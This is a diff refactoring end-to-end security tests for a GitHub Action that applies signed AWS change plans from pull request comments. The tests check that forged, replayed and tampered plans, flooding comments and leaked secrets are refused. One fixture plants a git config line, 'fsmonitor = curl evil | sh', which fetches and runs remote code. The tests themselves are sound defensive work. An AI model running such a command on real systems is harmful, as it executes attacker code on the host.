@@ -18,7 +18,17 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from conftest import PLAN_KEY, REPO
+from conftest import REPO
+from e2e_support import (
+    ACCOUNT,
+    KEY,
+    READ_ROLE,
+    WRITE_ROLE,
+    instance_entry,
+    run_report,
+    state_of,
+    thread_plan,
+)
 
 from devops_agent import plans
 from devops_agent.signing import SigningKey
@@ -26,16 +36,7 @@ from devops_agent_sandbox.payloads import comment_event
 
 pytestmark = [pytest.mark.e2e, pytest.mark.in_process]
 
-WRITE_ROLE = "arn:aws:iam::123456789012:role/devops-agent-write"
-READ_ROLE = "arn:aws:iam::123456789012:role/devops-agent-read"
-KEY = SigningKey(PLAN_KEY)
 BOT = {"user": "github-actions[bot]", "user_type": "Bot"}
-
-
-def state_of(session: Any, instance_id: str, region: str = "us-east-1") -> str:
-    ec2 = session.client("ec2", region_name=region)
-    found = ec2.describe_instances(InstanceIds=[instance_id])["Reservations"]
-    return str(found[0]["Instances"][0]["State"]["Name"])
 
 
 def plan_comments(github: Any, number: int) -> list[dict[str, Any]]:
@@ -79,23 +80,41 @@ def run_comment(
     return action.run(env, in_process=in_process)
 
 
+def stop_planned(action: Any, github: Any, estate: dict[str, Any], **inputs: str) -> Any:
+    """alice asks, on a new pull request, to stop web-1 (with the write role configured).
+
+    Returns:
+        web-1's id, the pull request, and the run that planned it.
+    """
+    web1 = estate["instances"]["web-1"]["id"]
+    pull = github.add_pull(REPO, title="x", user="alice")
+    planned = run_comment(
+        action,
+        github,
+        pull["number"],
+        f"/devops ec2 stop {web1}",
+        aws_write_role_to_assume=WRITE_ROLE,
+        **inputs,
+    )
+    return web1, pull, planned
+
+
+def apply_plan(action: Any, github: Any, number: int, plan_id: str, **kw: Any) -> Any:
+    """``/devops apply PLAN_ID`` in the thread, with the write role unless ``kw`` names one."""
+    kw.setdefault("aws_write_role_to_assume", WRITE_ROLE)
+    return run_comment(action, github, number, f"/devops apply {plan_id}", **kw)
+
+
 def forged_plan(pull: dict[str, Any], web1: str, **changes: Any) -> plans.Plan:
     """The reproduced forgery: a description that says reboot, arguments that terminate."""
+    entry = instance_entry("terminate", web1, f"Reboot 1 instance in us-east-1: {web1} (web-1)")
     values = {
-        "repository": REPO,
         "requester": "someone-else",  # spoofed, to dodge require-second-approver
-        "thread": pull["number"],
-        "account": "123456789012",
-        "head_sha": pull["head"]["sha"],
+        "account": ACCOUNT,
         "ledger_sha": "a" * 40,
+        **changes,
     }
-    values.update(changes)
-    entry = plans.PlanEntry(
-        operation="ec2.instance_state",
-        args={"action": "terminate", "region": "us-east-1", "instance_ids": [web1]},
-        description=f"Reboot 1 instance in us-east-1: {web1} (web-1)",
-    )
-    return plans.new_plan([entry], **values)
+    return thread_plan(pull, [entry], **values)
 
 
 @pytest.fixture
@@ -141,19 +160,10 @@ def test_a_queued_bare_apply_ignores_a_plan_written_into_an_older_comment(
     approval = github.add_comment(REPO, pull["number"], body="/devops apply", user="bob")
     minute_ago = (datetime.now(UTC) - timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
     # the plan run finishes after bob commented: a valid, signed plan lands in the comment
-    plan = plans.new_plan(
-        [
-            plans.PlanEntry(
-                operation="ec2.instance_state",
-                args={"action": "terminate", "region": "us-east-1", "instance_ids": [web1]},
-                description="Terminate web-1",
-            )
-        ],
-        repository=REPO,
-        requester="alice",
-        thread=pull["number"],
-        account="123456789012",
-        head_sha=pull["head"]["sha"],
+    plan = thread_plan(
+        pull,
+        [instance_entry("terminate", web1, "Terminate web-1")],
+        account=ACCOUNT,
         ledger_sha="a" * 40,
     )
     github.tamper_comment(
@@ -204,15 +214,7 @@ def test_a_bare_apply_never_falls_back_past_a_corrupted_newest_plan(
 
 def test_a_rerun_by_someone_else_applies_nothing(action, github, server_session, estate, people):
     """Re-running bob's apply from the Actions tab does not make carol's click bob's approval."""
-    web1 = estate["instances"]["web-1"]["id"]
-    pull = github.add_pull(REPO, title="x", user="alice")
-    planned = run_comment(
-        action,
-        github,
-        pull["number"],
-        f"/devops ec2 stop {web1}",
-        aws_write_role_to_assume=WRITE_ROLE,
-    )
+    web1, pull, planned = stop_planned(action, github, estate)
     approval = github.add_comment(
         REPO, pull["number"], body=f"/devops apply {planned.outputs['plan-id']}", user="bob"
     )
@@ -325,25 +327,10 @@ def test_a_plan_forged_by_another_workflow_is_refused(
 def test_an_applied_plan_reset_by_a_bot_edit_is_not_applied_again(
     action, github, server_session, estate, people
 ):
-    web1 = estate["instances"]["web-1"]["id"]
-    pull = github.add_pull(REPO, title="x", user="alice")
-    planned = run_comment(
-        action,
-        github,
-        pull["number"],
-        f"/devops ec2 stop {web1}",
-        aws_write_role_to_assume=WRITE_ROLE,
-    )
+    web1, pull, planned = stop_planned(action, github, estate)
     (comment,) = plan_comments(github, pull["number"])
     pending_body = comment["body"]  # signature and all, as it was when pending
-    applied = run_comment(
-        action,
-        github,
-        pull["number"],
-        f"/devops apply {planned.outputs['plan-id']}",
-        login="bob",
-        aws_write_role_to_assume=WRITE_ROLE,
-    )
+    applied = apply_plan(action, github, pull["number"], planned.outputs["plan-id"], login="bob")
     assert applied.code == 0, applied.stdout
     ec2 = server_session.client("ec2", region_name="us-east-1")
     ec2.start_instances(InstanceIds=[web1])
@@ -351,29 +338,13 @@ def test_an_applied_plan_reset_by_a_bot_edit_is_not_applied_again(
     github.tamper_comment(REPO, comment["id"], pending_body, editor="github-actions[bot]")
     (restored,) = plans.find_blocks(plan_comments(github, pull["number"])[0]["body"])
     assert restored.state == "pending" and restored.signed_by(KEY)
-    again = run_comment(
-        action,
-        github,
-        pull["number"],
-        f"/devops apply {planned.outputs['plan-id']}",
-        login="bob",
-        aws_write_role_to_assume=WRITE_ROLE,
-    )
+    again = apply_plan(action, github, pull["number"], planned.outputs["plan-id"], login="bob")
     assert again.code == 3 and "was applied by run" in again.summary
     assert state_of(server_session, web1) in ("pending", "running")
 
 
 def test_apply_without_a_signing_key_refuses_and_says_how(action, github, server_session, estate):
-    web1 = estate["instances"]["web-1"]["id"]
-    pull = github.add_pull(REPO, title="x", user="alice")
-    planned = run_comment(
-        action,
-        github,
-        pull["number"],
-        f"/devops ec2 stop {web1}",
-        aws_write_role_to_assume=WRITE_ROLE,
-        plan_signing_key="",
-    )
+    web1, pull, planned = stop_planned(action, github, estate, plan_signing_key="")
     (comment,) = plan_comments(github, pull["number"])
     assert "unsigned" in comment["body"] and "can never be applied" in comment["body"]
     apply = f"/devops apply {planned.outputs['plan-id']}"
@@ -401,36 +372,16 @@ def test_apply_without_a_signing_key_refuses_and_says_how(action, github, server
 def test_a_signed_plan_replayed_in_another_thread_or_repository_is_refused(
     action, github, server_session, estate
 ):
-    web1 = estate["instances"]["web-1"]["id"]
-    first = github.add_pull(REPO, title="x", user="alice")
-    planned = run_comment(
-        action,
-        github,
-        first["number"],
-        f"/devops ec2 stop {web1}",
-        aws_write_role_to_assume=WRITE_ROLE,
-    )
+    web1, first, planned = stop_planned(action, github, estate)
     (comment,) = plan_comments(github, first["number"])
     second = github.add_pull(REPO, title="y", user="alice")
     github.add_comment(REPO, second["number"], body=comment["body"], **BOT)
-    moved = run_comment(
-        action,
-        github,
-        second["number"],
-        f"/devops apply {planned.outputs['plan-id']}",
-        aws_write_role_to_assume=WRITE_ROLE,
-    )
+    moved = apply_plan(action, github, second["number"], planned.outputs["plan-id"])
     assert moved.code == 3 and "belongs to another thread" in moved.summary
     # signed by an installation sharing the key, for another repository
     elsewhere = forged_plan(second, web1, repository="acme/other", requester="alice")
     github.add_comment(REPO, second["number"], body=plans.render_block(elsewhere, KEY), **BOT)
-    run = run_comment(
-        action,
-        github,
-        second["number"],
-        f"/devops apply {elsewhere.plan_id}",
-        aws_write_role_to_assume=WRITE_ROLE,
-    )
+    run = apply_plan(action, github, second["number"], elsewhere.plan_id)
     assert run.code == 3 and "belongs to another thread" in run.summary
     assert state_of(server_session, web1) == "running"
 
@@ -451,13 +402,7 @@ def test_what_is_shown_comes_from_the_arguments(action, github, server_session, 
     (comment,) = plan_comments(github, pull["number"])
     exact = f"ec2.instance_state(action=terminate, instance_ids={web2}, region=eu-west-1)"
     assert exact in comment["body"]
-    applied = run_comment(
-        action,
-        github,
-        pull["number"],
-        f"/devops apply {planned.outputs['plan-id']}",
-        aws_write_role_to_assume=WRITE_ROLE,
-    )
+    applied = apply_plan(action, github, pull["number"], planned.outputs["plan-id"])
     assert applied.code == 0, applied.stdout
     # the Change column is the exact operation, not the name AWS holds
     assert f"| 1 | {exact} |" in applied.summary
@@ -477,23 +422,14 @@ def test_arguments_that_do_not_validate_to_the_block_are_refused(
         ),
         ({"action": "stop"}, "ec2.instance_nuke"),
     ):
-        plan = plans.new_plan(
+        plan = thread_plan(
+            pull,
             [plans.PlanEntry(operation=operation, args=args, description="Stop web-1")],
-            repository=REPO,
-            requester="alice",
-            thread=pull["number"],
-            account="123456789012",
-            head_sha=pull["head"]["sha"],
+            account=ACCOUNT,
             ledger_sha="a" * 40,
         )
         github.add_comment(REPO, pull["number"], body=plans.render_block(plan, KEY), **BOT)
-        run = run_comment(
-            action,
-            github,
-            pull["number"],
-            f"/devops apply {plan.plan_id}",
-            aws_write_role_to_assume=WRITE_ROLE,
-        )
+        run = apply_plan(action, github, pull["number"], plan.plan_id)
         assert run.code == 3, run.summary
         assert state_of(server_session, web1) == "running"
 
@@ -592,16 +528,7 @@ def test_a_plan_from_another_account_is_refused(action, github, server_session):
     assert "made in AWS account 123456789012" in run.summary and other in run.summary
     assert in_b.get_user(UserName="old-bot")["User"]["UserName"] == "old-bot"
     # nothing was claimed: the right role may still apply it
-    assert (
-        run_comment(
-            action,
-            github,
-            pull["number"],
-            f"/devops apply {planned.outputs['plan-id']}",
-            aws_write_role_to_assume=WRITE_ROLE,
-        ).code
-        == 0
-    )
+    assert apply_plan(action, github, pull["number"], planned.outputs["plan-id"]).code == 0
 
 
 # --------------------------------------------------------------------------- 5. stalling
@@ -609,27 +536,14 @@ def test_a_plan_from_another_account_is_refused(action, github, server_session):
 
 def test_hostile_comments_cannot_stall_an_apply(action, github, server_session, estate):
     """65,536-character comments full of markers, by a stranger and by another workflow."""
-    web1 = estate["instances"]["web-1"]["id"]
-    pull = github.add_pull(REPO, title="x", user="alice")
-    planned = run_comment(
-        action,
-        github,
-        pull["number"],
-        f"/devops ec2 stop {web1}",
-        aws_write_role_to_assume=WRITE_ROLE,
-    )
+    web1, pull, planned = stop_planned(action, github, estate)
     mark = f"<!-- devops-agent:plan {planned.outputs['plan-id']} state=pending -->```json\n{{"
     hostile = (mark * (65_536 // len(mark)))[:65_536]
     for author in ({"user": "mallory"}, {"user": "mallory"}, BOT):
         github.add_comment(REPO, pull["number"], body=hostile, **author)
     started = time.monotonic()
-    run = run_comment(
-        action,
-        github,
-        pull["number"],
-        f"/devops apply {planned.outputs['plan-id']}",
-        aws_write_role_to_assume=WRITE_ROLE,
-        timeout_seconds="5",
+    run = apply_plan(
+        action, github, pull["number"], planned.outputs["plan-id"], timeout_seconds="5"
     )
     assert run.code == 0, run.summary
     assert time.monotonic() - started < 5
@@ -674,7 +588,7 @@ def test_secrets_in_structured_data_reach_no_exit(action, github, server_session
     assert "DB_PASSWORD" in out and instance in out  # the answer did go out
     for value in secrets.values():
         assert value not in out, value
-    report = json.loads((run.workspace / ".devops-agent" / "report.json").read_text())
+    report = run_report(run)
     assert "hunter2" not in json.dumps(report) and "[REDACTED]" in json.dumps(report)
 
 
@@ -794,16 +708,9 @@ def test_a_download_cannot_plant_files_that_run_later(action, github, server_ses
     s3.create_bucket(Bucket="drop")
     s3.put_object(Bucket="drop", Key="config", Body=b"[core]\n\tfsmonitor = curl evil | sh\n")
     pull = github.add_pull(REPO, title="x", user="alice")
-    comment = github.add_comment(
-        REPO,
-        pull["number"],
-        body=f"/devops s3 download s3://drop/config {target} --force",
-        user="alice",
+    env = action.comment_env(
+        f"/devops s3 download s3://drop/config {target} --force", pr=pull["number"]
     )
-    payload = comment_event(
-        REPO, pull["number"], comment["body"], login="alice", is_pr=True, comment_id=comment["id"]
-    )
-    env = action.env("issue_comment", payload)
     work = Path(env["GITHUB_WORKSPACE"])
     (work / ".git").mkdir()
     (work / ".git" / "config").write_text("[core]\n")
@@ -833,15 +740,7 @@ def test_a_clone_cannot_plant_a_github_folder(action, github):
 
 def test_two_applies_of_one_plan_carry_it_out_once(action, github, server_session, estate):
     """With a group per comment, two applies may run at once: the ledger lets one act."""
-    web1 = estate["instances"]["web-1"]["id"]
-    pull = github.add_pull(REPO, title="x", user="alice")
-    planned = run_comment(
-        action,
-        github,
-        pull["number"],
-        f"/devops ec2 stop {web1}",
-        aws_write_role_to_assume=WRITE_ROLE,
-    )
+    _, pull, planned = stop_planned(action, github, estate)
     plan_id = planned.outputs["plan-id"]
     envs = []
     for run_id in ("501", "502"):
